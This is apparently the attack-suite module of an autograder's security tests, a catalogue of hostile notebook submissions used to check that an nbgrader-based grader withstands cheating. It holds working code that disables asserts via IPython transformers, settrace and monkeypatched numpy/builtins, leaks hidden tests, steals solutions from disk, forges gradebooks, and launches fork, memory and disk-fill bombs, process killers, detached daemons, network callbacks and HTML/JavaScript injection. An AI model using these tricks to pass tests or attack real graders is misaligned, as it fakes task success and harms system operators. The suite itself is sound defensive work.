"""The attack suite's submissions: what a determined student might put into an exercise notebook.

Each attack starts from a student version as released (`exercises/<a>/<a>.ipynb`, all answers blank)
and either puts attack code into answer cells (`answers`: task -> the cell's new source; the other
answers stay blank) or changes the notebook's cells, metadata or outputs (`edit`). Every attack is
written to work against plain nbgrader, where it can; test_attacks.py grades them all in
one `grade` run and checks that none scores above the blank notebook and none stops the batch.

Attack code can use these tokens, which the test replaces before grading:
  @PORT@ @UDP_PORT@ @HOSTS@ @ABSTRACT@   the test's TCP and UDP listeners and an abstract Unix socket
  @MARKERS@                              a host folder; a file appearing in it means a write escaped
  @OUT@ @REPO@                           the grader's output folder and the repository (where the
                                         solutions are), as seen by the grader
  @LIMIT_MB@                             the kernel's memory limit given to `grade --memory-mb`
An attack that must say what it achieved prints one line `KDD-ATTACK-REPORT <json>`, which the test
reads back from the executed notebook in results/.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass, field
from typing import Callable

REPORT = "KDD-ATTACK-REPORT"
ASSIGNMENT = "rmse_metric"  # the fastest exercise; its tasks, in order:
TASKS = ("one_batch", "streaming", "in_fit", "sample_weight")
HTML_STUDENT = "<img src=x onerror=alert(1)>"  # a student folder name that is HTML
FAKE_OUTPUT = "the visible checks passed.\n"  # what edited test cells print, or come with


@dataclass(frozen=True)
class Attack:
    """One hostile submission and what the grader must make of it."""

    what: str  # what the student tries, in one line
    answers: dict[str, str] = field(default_factory=dict)  # task -> source of its answer cell
    edit: Callable[[dict], None] | None = None  # changes the notebook (JSON) in place
    rejected: str | None = None  # None: graded; else what the rejection reason must say
    may_reject: bool = False  # graded (edits undone), or rejected with a reason: both are right
    student: str | None = None  # the student folder (default: the attack's name)


# A do-nothing metric that constructs, updates and reports 0 without error: with it, only the asserts
# (which the attacks below switch off) stand between a student and the points.
STUB = '''
class RootMeanSquaredError(keras.metrics.Metric):
    """Does nothing: the trick above makes the tests pass anyway."""

    def __init__(self, name="rmse", **kwargs):
        super().__init__(name=name, **kwargs)

    def update_state(self, y_true, y_pred, sample_weight=None):
        pass

    def result(self):
        return ops.zeros(())
'''

# Prints what an attack achieved, for the test to read back.
REPORTER = f'''
import json as _json, sys as _sys
def report(**found):
    _sys.__stdout__.flush()
    print("{REPORT} " + _json.dumps(found, default=str), flush=True)  # one write: a kill cannot split it
'''

INPUT_TRANSFORMER = '''
def skip_tests(lines):
    """Test cells assert things: run `pass` instead."""
    if any("assert" in line for line in lines):
        return ["pass\\n"]
    return lines


get_ipython().input_transformers_cleanup.append(skip_tests)
'''

AST_TRANSFORMER = '''
import ast


class NoChecks(ast.NodeTransformer):
    """Every assert and raise becomes `pass`."""

    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)

    def visit_Raise(self, node):
        return ast.copy_location(ast.Pass(), node)


get_ipython().ast_transformers.append(NoChecks())
''' + STUB

RUN_CELL = '''
shell = get_ipython()
real_run_cell_async, real_run_cell = shell.run_cell_async, shell.run_cell


def disarm(raw_cell):
    return "pass" if "assert" in raw_cell else raw_cell


async def run_cell_async(raw_cell, *args, **kwargs):
    if disarm(raw_cell) != raw_cell:  # the kernel transformed the real cell already: replace that too
        raw_cell = disarm(raw_cell)
        kwargs.update(transformed_cell=shell.transform_cell(raw_cell), preprocessing_exc_tuple=None)
    return await real_run_cell_async(raw_cell, *args, **kwargs)


def run_cell(raw_cell, *args, **kwargs):
    return real_run_cell(disarm(raw_cell), *args, **kwargs)


shell.run_cell_async, shell.run_cell = run_cell_async, run_cell
'''

# nbgrader adds the error of an execute reply whose status is "error" when no error was output, so
# each of these also rewrites the cell's result, from which the kernel builds its reply, as a success.
REPLY_OK = '''

def succeeded(result):
    result.error_before_exec = result.error_in_exec = None


get_ipython().events.register("post_run_cell", succeeded)
'''

SHOWTRACEBACK = '''
get_ipython().showtraceback = lambda *args, **kwargs: None  # errors are never shown
''' + REPLY_OK

CUSTOM_EXC = '''
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: [])
''' + REPLY_OK

CLEAR_OUTPUT = '''
from IPython.display import clear_output

get_ipython().events.register("post_run_cell", lambda result: clear_output())  # wipe the error away
''' + REPLY_OK

NUMPY_ALWAYS_TRUE = '''
import numpy.testing

np.isclose = lambda *args, **kwargs: True
np.allclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_equal = lambda *args, **kwargs: None
np.testing.assert_almost_equal = lambda *args, **kwargs: None
''' + STUB

NUMPY_READS_CALLER = '''
import linecache
import sys


def expected_answer():
    """True unless the test asks `not np.isclose(...)`: read the caller's line of code."""
    caller = sys._getframe(2)
    return "not " not in linecache.getline(caller.f_code.co_filename, caller.f_lineno)


np.isclose = lambda *args, **kwargs: expected_answer()
np.allclose = lambda *args, **kwargs: expected_answer()
''' + STUB

LIAR = '''
class Liar:
    """Equal to anything; 0.0 before an update and the worked example's 0.5 after."""

    def __init__(self, updated):
        self.updated = updated

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

    def __float__(self):
        return 0.5 if self.updated else 0.0

    def __array__(self, dtype=None, copy=None):
        return np.array(float(self), dtype=dtype)


class RootMeanSquaredError(keras.metrics.Metric):
    def __init__(self, name="rmse", **kwargs):
        super().__init__(name=name, **kwargs)
        self.updated = False

    def update_state(self, y_true, y_pred, sample_weight=None):
        self.updated = True

    def result(self):
        return Liar(self.updated)
'''

BUILTINS = '''
import builtins

_real_float = builtins.float
_wanted = iter([0.0, 0.5])  # what the first test wants from float(metric.result()), in that order


class _FloatType(type):
    def __instancecheck__(cls, obj):  # isinstance(x, float) keeps working for everyone else
        return isinstance(obj, _real_float)

    def __subclasscheck__(cls, other):
        return issubclass(other, _real_float)


class float(_real_float, metaclass=_FloatType):
    def __new__(cls, value=0.0):
        if isinstance(value, (str, int, _real_float)):
            return _real_float(value)
        return _real_float(next(_wanted, 0.5))


builtins.float = float
''' + STUB

# IPython compiles each top-level statement of a cell apart, so a trace function can only jump over
# the asserts inside a block (the hidden tests' loops); the visible tests' asserts still fail.
SETTRACE = '''
import ast
import linecache
import sys

spans = {}


def assert_spans(filename):
    """First line -> the line after, of every assert in a cell's code."""
    if filename not in spans:
        try:
            tree = ast.parse("".join(linecache.getlines(filename)))
            spans[filename] = {node.lineno: node.end_lineno + 1 for node in ast.walk(tree)
                               if isinstance(node, ast.Assert)}
        except SyntaxError:
            spans[filename] = {}
    return spans[filename]


def skip_asserts(frame, event, arg):
    if "/ipykernel_" not in frame.f_code.co_filename:  # cells only
        return None
    jumps = assert_spans(frame.f_code.co_filename)

    def on_line(frame, event, arg):
        if event == "line" and frame.f_lineno in jumps:
            try:
                frame.f_lineno = jumps[frame.f_lineno]
            except ValueError:
                pass
        return on_line

    return on_line if jumps else None


sys.settrace(skip_asserts)
''' + STUB

# A time-limited walk of the file system, without the kernel's pseudo-files and the installed software.
WALKER = '''
import os
import time

deadline = time.monotonic() + 10  # the cell has 20 s
SKIP = ("/proc", "/sys", "/dev", "/usr", "/root/.pyenv")


def walk(top):
    for root, folders, files in os.walk(top):
        if time.monotonic() > deadline:
            return
        folders[:] = [name for name in folders if name != "site-packages"
                      and not (top == "/" and os.path.join(root, name).startswith(SKIP))]
        yield root, folders, files
'''

# Looks wherever the solutions, hidden tests or other students' notebooks could be, and runs any
# solution it finds. Secrets are spelled in pieces so that this code never matches itself.
SOLUTIONS_THIEF = REPORTER + WALKER + '''
import json
import os

SECRETS = ("BEGIN " + "SOLUTION", "BEGIN HIDDEN " + "TESTS", "VICTIM" + "-SECRET")
INTERESTING = ("solutions", "source", "submitted", "autograded", "archive", "results", "gradebook.db",
               "nbgrader_config.py", "grades.json", "trusted", ".grading")
places = ["/", "@REPO@", "@REPO@/solutions", "@OUT@", "/proc/1/root@REPO@", "/proc/1/cwd", "/proc/self/root@REPO@",
          "../../../source", "../../source", "../source", ".."]
found, names, searched = [], [], 0
for top in places:
    for root, folders, files in walk(top):
        for name in folders + files:
            if name in INTERESTING or name.endswith((".ipynb", ".db")):
                names.append(os.path.join(root, name))
        for name in files:
            if time.monotonic() > deadline:  # a machine's whole file system (the uid-only tier) is large
                break
            path = os.path.join(root, name)
            try:
                if os.path.getsize(path) > 5 * 2**20:
                    continue
                with open(path, "rb") as handle:
                    text = handle.read().decode("utf-8", "replace")
            except OSError:
                continue
            searched += 1
            if any(secret in text for secret in SECRETS):
                found.append(path)
                if path.endswith(".ipynb"):  # run the reference solution's answer cells here
                    for cell in json.loads(text).get("cells", []):
                        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                            try:
                                exec("".join(cell["source"]), globals())
                            except Exception:
                                pass
report(found=sorted(set(found)), names=sorted(set(names))[:50], searched=searched)
'''

# Looks for grade files everywhere; overwrites those of the output folder and any it can reach by relative
# paths. (It only writes inside the output folder, so that a broken sandbox cannot damage a developer's
# other files while this suite runs; what it sees elsewhere is reported, and must be nothing.)
GRADES_FORGER = REPORTER + WALKER + '''
import os
import sqlite3

TARGETS = ("gradebook.db", "grades.json", "grades.csv", "results", "feedback", "archive", "manifest.jsonl")
FORGED = "KDD-" + "FORGED"
written = []


def forge(path):
    """Overwrite a grade file (or every file in a grade folder) with a full score."""
    paths = [path]
    if os.path.isdir(path):
        paths = [os.path.join(root, name) for root, _, files in os.walk(path) for name in files]
    for target in paths:
        try:
            if target.endswith(".db"):
                with sqlite3.connect(target) as db:
                    db.execute("UPDATE grade SET manual_score = 100")
            else:
                with open(target, "w") as handle:
                    handle.write('{"score": 100, "forged": "%s"}' % FORGED)
            written.append(target)
        except Exception:
            pass


seen = sorted(os.path.join(root, name) for root, folders, files in walk("/") for name in folders + files
              if name in TARGETS)
candidates = {os.path.join(level, name) for level in ("@OUT@", "..", "../..", "../../..") for name in TARGETS}
for path in sorted(candidates | {path for path in seen if path.startswith("@OUT@")}):
    if os.path.exists(path):
        forge(path)
report(written=written, seen=seen)
'''

EXITS = {"one_batch": "import sys\n\nsys.exit(0)", "streaming": "raise SystemExit(0)", "in_fit": "exit()",
         "sample_weight": "quit()"}

OS_EXIT = "import os\n\nos._exit(0)"

KILLER = REPORTER + '''
import os
import signal


def every_pid():
    sent = 0
    for pid in range(2, 2**16):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
                sent += 1
            except OSError:
                pass
    return sent


tried = {}
for name, kill in [("parent", lambda: os.kill(os.getppid(), signal.SIGKILL)),
                   ("init", lambda: os.kill(1, signal.SIGKILL)), ("every pid", every_pid)]:
    try:
        tried[name] = kill()
    except OSError as error:
        tried[name] = repr(error)
report(tried=tried)
os.killpg(os.getpgid(0), signal.SIGTERM)  # the kernel's process group
os.kill(-1, signal.SIGKILL)  # everything this user may signal, itself included
'''

INFINITE_LOOP = "while True:\n    pass"

UNINTERRUPTIBLE_LOOP = '''
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)  # the grader's interrupt does nothing
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    pass
'''

MEMORY_BOMB = '''
hog = []
while True:
    hog.append(bytearray(64 * 2**20))
'''

# Shared anonymous memory (what mmap.mmap(-1, n) maps) is not counted in RLIMIT_DATA. Stops 512 MB
# over the limit, so that a failing check cannot take the whole machine.
SHARED_MEMORY_BOMB = REPORTER + '''
import mmap

held, maps = 0, []
report(held_mb=held)
while held < @LIMIT_MB@ + 512:
    block = mmap.mmap(-1, 128 * 2**20)
    for _ in range(128):
        block.write(b"x" * 2**20)
    maps.append(block)
    held += 128
    report(held_mb=held)
'''

# The one host folder the kernel can write is the IPC folder of its sockets (the connection file's).
DISK_FILL = REPORTER + '''
import os
import sys

folder = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
written = 0
report(folder=folder, written_mb=written)
for index in range(3):
    try:
        with open(os.path.join(folder, f"kdd-attack-fill-{index}"), "wb") as handle:
            for _ in range(150):
                handle.write(b"\\0" * 2**20)
        written += 150
    except OSError as error:
        report(stopped=repr(error))
        break
    report(folder=folder, written_mb=written)
'''

FORK_BOMB = '''
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
'''

# A process that outlives the kernel (own session, double fork, SIGHUP and SIGTERM ignored) and
# keeps trying to write into host folders for two minutes.
DAEMON = '''
import os
import subprocess
import sys

later = """
import os, signal, sys, time
signal.signal(signal.SIGHUP, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
targets = sys.argv[1:]
for attempt in range(240):
    time.sleep(0.5)
    for folder in targets:
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, "kdd-attack-marker-%d-%d" % (os.getpid(), attempt)), "w") as handle:
                handle.write("written after grading")
        except OSError:
            pass
"""
ipc = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
targets = ["@MARKERS@", "@OUT@", ipc]
subprocess.Popen([sys.executable, "-c", later, *targets], start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:  # the classic daemon: fork, new session, fork again, parent exits
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", later, *targets])
    os._exit(0)
os.wait()
'''

NETWORK = REPORTER + '''
import socket

reached = []
for host in @HOSTS@:
    try:
        with socket.create_connection((host, @PORT@), timeout=3) as connection:
            connection.sendall(b"hello from a student's kernel")
            reached.append(f"tcp {host}")
    except OSError:
        pass
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.sendto(b"hello from a student's kernel", (host, @UDP_PORT@))
    except OSError:
        pass
try:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as unix:
        unix.settimeout(3)
        unix.connect("\\0@ABSTRACT@")
        unix.sendall(b"hello")
        reached.append("abstract unix socket")
except OSError:
    pass
report(reached=reached)
'''

OUTPUT_FLOOD = '''
import sys

line = "A" * 2**20
for _ in range(50):  # 50 MB
    print(line)
for _ in range(10):
    print(line, file=sys.stderr)
'''

HTML_INJECTION = '''
from IPython.display import HTML, Javascript, display

display(HTML("<script>alert('from a submission')</script><img src=x onerror=alert(1)>"))
display(Javascript("alert('from a submission')"))


class RootMeanSquaredError(keras.metrics.Metric):
    def __init__(self, name="<script>alert(1)</script>", **kwargs):
        raise ValueError("<img src=x onerror=alert(1)><script>alert(2)</script></td></table><a href=javascript:x>")
'''

# Reads the hidden tests as they run (test cells come back with them) and shows them, encoded so that
# a filter for quoted test code does not notice, in the test's error message (the feedback shows it).
HIDDEN_TEST_THIEF = '''
import base64


def leak_hidden_tests(lines):
    source = "".join(lines)
    if "HIDDEN TESTS" not in source:
        return lines
    hidden = source.split("HIDDEN TESTS", 1)[1]
    encoded = base64.b64encode(hidden.encode()).decode()
    return [f"raise AssertionError({encoded[:480]!r})\\n"]


get_ipython().input_transformers_cleanup.append(leak_hidden_tests)
'''

# Against the trusted check itself: its probe cells print a nonce and JSON; replace each by a print of
# the nonce with made-up values, and skip the tests as above.
PROBE_SPOOF = '''
import re


def spoof(lines):
    source = "".join(lines)
    nonce = re.search(r"kdd-trusted-[0-9a-f]+", source)
    if nonce:
        return ["print(%r, %r)\\n" % (nonce.group(0), '{"value": {}}')]
    if "assert" in source:
        return ["pass\\n"]
    return lines


get_ipython().input_transformers_cleanup.append(spoof)
''' + STUB

# Replays values the reference solution computed for ANOTHER submission's probes (a student with a
# working solution leaked that submission's seed and ran the check on it): each probe cell prints them
# instead of running, and the tests are skipped. @STOLEN@ is {task: the reference's {"value": ...}}.
PROBE_REPLAY = '''
import json
import re

STOLEN = @STOLEN@


def replay(lines):
    source = "".join(lines)
    nonce, task = re.search(r"kdd-trusted-[0-9a-f]+", source), re.search(r"of task '(\\w+)'", source)
    if nonce and task and task.group(1) in STOLEN:
        return ["print(%r, %r)\\n" % (nonce.group(0), json.dumps(STOLEN[task.group(1)]))]
    if "assert" in source:
        return ["pass\\n"]
    return lines


get_ipython().input_transformers_cleanup.append(replay)
''' + STUB


# --- structural attacks: edits of the notebook itself --------------------------------------------------

def _cells(nb: dict, grade_id: str) -> list[dict]:
    return [cell for cell in nb["cells"] if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id]


def _test_ids(nb: dict) -> list[str]:
    return [cell["metadata"]["nbgrader"]["grade_id"] for cell in nb["cells"]
            if cell.get("metadata", {}).get("nbgrader", {}).get("grade")]


def _delete_test(nb: dict) -> None:
    nb["cells"].remove(_cells(nb, f"{ASSIGNMENT}-one_batch")[0])


def _duplicate(grade_id: str) -> Callable[[dict], None]:
    def edit(nb: dict) -> None:
        cell = _cells(nb, grade_id)[0]
        copy_ = copy.deepcopy(cell)
        copy_["id"] = "copied-cell"
        nb["cells"].insert(nb["cells"].index(cell) + 1, copy_)
    return edit


def _rename_test(nb: dict) -> None:
    _cells(nb, f"{ASSIGNMENT}-one_batch")[0]["metadata"]["nbgrader"]["grade_id"] = f"{ASSIGNMENT}-my_own_test"


def _replace_test_sources(nb: dict) -> None:
    for grade_id in _test_ids(nb):
        cell = _cells(nb, grade_id)[0]
        cell["source"] = f"print({FAKE_OUTPUT.strip()!r})"
        cell["metadata"]["nbgrader"]["locked"] = False
        cell["metadata"].pop("editable", None)


def _raise_points(nb: dict) -> None:
    for grade_id in _test_ids(nb):
        _cells(nb, grade_id)[0]["metadata"]["nbgrader"]["points"] = 100


def _ungrade_tests(nb: dict) -> None:
    for grade_id in _test_ids(nb):
        meta = _cells(nb, grade_id)[0]["metadata"]["nbgrader"]
        meta.update(grade=False, locked=False)
        meta.pop("points")


def _tests_to_markdown(nb: dict) -> None:
    for grade_id in _test_ids(nb):
        cell = _cells(nb, grade_id)[0]
        cell["cell_type"] = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)


def _bonus_cell(nb: dict) -> None:
    """A new graded cell that always passes, worth 100 points."""
    nb["cells"].append({"cell_type": "code", "id": "bonus", "execution_count": None, "outputs": [],
                        "source": "print('bonus')",
                        "metadata": {"nbgrader": {"grade": True, "grade_id": f"{ASSIGNMENT}-bonus", "locked": True,
                                                  "points": 100, "schema_version": 3, "solution": False,
                                                  "task": False}}})


def _setup_cell_graded(nb: dict) -> None:
    """The setup cell (which always runs without error) becomes a graded cell worth 100 points."""
    _cells(nb, f"{ASSIGNMENT}-locked-2")[0]["metadata"]["nbgrader"].update(grade=True, points=100)


def _answer_cell_graded(nb: dict) -> None:
    """Answer cells become 'manually graded' cells worth 100 points each."""
    for task in TASKS:
        _cells(nb, f"{ASSIGNMENT}-{task}-answer")[0]["metadata"]["nbgrader"].update(grade=True, points=100)


def _prefilled_outputs(nb: dict) -> None:
    """Every test cell comes with a passing output and an execution count, as if run."""
    count = 1
    for cell in nb["cells"]:
        if cell["cell_type"] != "code":
            continue
        cell["execution_count"] = count
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade"):
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": [FAKE_OUTPUT]},
                               {"output_type": "execute_result", "execution_count": count, "metadata": {},
                                "data": {"text/plain": [str(meta.get("points", 2))]}}]
        count += 1


def _other_kernel(nb: dict) -> None:
    nb["metadata"]["kernelspec"] = {"name": "python3-with-my-answers", "display_name": "Python 3",
                                    "language": "python"}


ATTACKS: dict[str, Attack] = {
    # switching nbgrader's tests off from inside the kernel
    "input_transformer": Attack("an input transformer replaces every cell that asserts with `pass`",
                                {"one_batch": INPUT_TRANSFORMER}),
    "ast_transformer": Attack("an AST transformer turns every assert and raise into `pass`",
                              {"one_batch": AST_TRANSFORMER}),
    "run_cell_patched": Attack("the shell's run_cell runs `pass` instead of any cell that asserts",
                               {"one_batch": RUN_CELL}),
    "showtraceback_silenced": Attack("get_ipython().showtraceback does nothing, so no error is ever output",
                                     {"one_batch": SHOWTRACEBACK}),
    "custom_exc_swallows": Attack("a custom exception handler swallows every exception",
                                  {"one_batch": CUSTOM_EXC}),
    "clear_output_hook": Attack("a post_run_cell hook clears every cell's output, errors included",
                                {"one_batch": CLEAR_OUTPUT}),
    "numpy_always_true": Attack("np.isclose/np.allclose return True, numpy.testing asserts pass",
                                {"one_batch": NUMPY_ALWAYS_TRUE}),
    "numpy_reads_caller": Attack("np.isclose answers what the calling assert wants, read from its source line",
                                 {"one_batch": NUMPY_READS_CALLER}),
    "liar_eq_float": Attack("result() returns an object equal to anything whose float is the worked example's",
                            {"one_batch": LIAR}),
    "builtins_patched": Attack("builtins.float returns the numbers the visible test expects",
                               {"one_batch": BUILTINS}),
    "settrace_skips_asserts": Attack("a sys.settrace hook jumps over every assert statement it can",
                                     {"one_batch": SETTRACE}),
    "hidden_tests_leaked": Attack("an input transformer puts the hidden tests, base64-encoded, into the message",
                                  {"one_batch": HIDDEN_TEST_THIEF}),
    "trusted_probe_spoofed": Attack("probe cells of the trusted check print made-up results; tests skipped",
                                    {"one_batch": PROBE_SPOOF}),
    # reaching outside the kernel
    "solutions_thief": Attack("search the disk for solutions, hidden tests, other submissions; run what is found",
                              {"one_batch": SOLUTIONS_THIEF}),
    "grades_forger": Attack("find and overwrite gradebook.db, grades.json, results, feedback, the archive",
                            {"one_batch": GRADES_FORGER}),
    "exits": Attack("sys.exit, SystemExit, exit() and quit()", EXITS),
    "os_exit": Attack("os._exit(0)", {"one_batch": OS_EXIT}),
    "kill_everything": Attack("SIGKILL the parent, pid 1, the process group, every pid and -1",
                              {"one_batch": KILLER}),
    "infinite_loop": Attack("while True: pass", {"one_batch": INFINITE_LOOP}),
    "uninterruptible_loop": Attack("ignore SIGINT and SIGTERM, then loop forever",
                                   {"one_batch": UNINTERRUPTIBLE_LOOP}),
    "memory_bomb": Attack("allocate 64 MB blocks until something breaks", {"one_batch": MEMORY_BOMB}),
    "shared_memory_bomb": Attack("allocate shared anonymous memory (mmap), which RLIMIT_DATA does not count",
                                 {"one_batch": SHARED_MEMORY_BOMB}),
    "disk_fill": Attack("write 450 MB into the host folder of the kernel's sockets", {"one_batch": DISK_FILL}),
    "fork_bomb": Attack("while True: os.fork()", {"one_batch": FORK_BOMB}),
    "detached_writer": Attack("a detached process (new session, double fork) writes into host folders later",
                              {"one_batch": DAEMON}),
    "network": Attack("connect to TCP, UDP and abstract Unix listeners of the grader's machine",
                      {"one_batch": NETWORK}),
    "output_flood": Attack("print 50 MB to stdout and 10 MB to stderr", {"one_batch": OUTPUT_FLOOD}),
    "html_injection": Attack("HTML and JavaScript in outputs and error messages, and a student id that is HTML",
                             {"one_batch": HTML_INJECTION}, student=HTML_STUDENT),
    # editing the notebook
    "test_cell_deleted": Attack("delete a test cell", edit=_delete_test,
                                rejected=f"missing the test cell {ASSIGNMENT}-one_batch"),
    "test_cell_duplicated": Attack("copy a test cell (its grade id comes along)", edit=_duplicate(
        f"{ASSIGNMENT}-one_batch"), rejected=f"'{ASSIGNMENT}-one_batch' more than once"),
    "answer_cell_duplicated": Attack("copy an answer cell (its grade id comes along)", edit=_duplicate(
        f"{ASSIGNMENT}-one_batch-answer"), rejected=f"'{ASSIGNMENT}-one_batch-answer' more than once"),
    "test_grade_id_renamed": Attack("rename a test cell's grade id", edit=_rename_test,
                                    rejected=f"missing the test cell {ASSIGNMENT}-one_batch"),
    "test_sources_replaced": Attack("unlock the test cells and replace them by a print", edit=_replace_test_sources),
    "test_points_raised": Attack("give every test cell 100 points", edit=_raise_points),
    "tests_ungraded": Attack("set grade: false (and unlock) on every test cell", edit=_ungrade_tests,
                             may_reject=True),
    "tests_to_markdown": Attack("turn the test cells into Markdown cells", edit=_tests_to_markdown),
    "bonus_graded_cell": Attack("add a graded cell of 100 points that always passes", edit=_bonus_cell,
                                may_reject=True),
    "setup_cell_graded": Attack("make the setup cell a graded cell of 100 points", edit=_setup_cell_graded,
                                may_reject=True),
    "answer_cells_graded": Attack("make the answer cells graded cells of 100 points", edit=_answer_cell_graded,
                                  may_reject=True),
    "prefilled_outputs": Attack("passing outputs and execution counts already in every test cell",
                                edit=_prefilled_outputs),
    "other_kernelspec": Attack("a kernelspec of the student's choosing", edit=_other_kernel),
}
